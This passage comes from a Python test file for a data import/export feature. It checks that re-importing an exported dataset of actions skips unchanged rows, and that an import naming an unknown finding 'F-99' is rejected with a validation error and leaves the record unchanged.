    result = ActionResource().import_data(tablib.Dataset().load(dataset.export("csv")))
    assert not result.has_validation_errors() and result.totals["skip"] == len(dataset)


def test_an_unknown_finding_in_an_import_is_an_error(plan, action_mp):
    dataset = ActionResource().export()
    rows = [list(r) for r in dataset]
    index = dataset["reference"].index(action_mp.reference)
    rows[index][dataset.headers.index("findings")] = "F-99"
    before = picture(action_mp)
    result = ActionResource().import_data(tablib.Dataset(*rows, headers=dataset.headers))
    assert "Finding 'F-99' does not exist." in str(result.invalid_rows[0].error_dict)
    assert picture(action_mp) == before
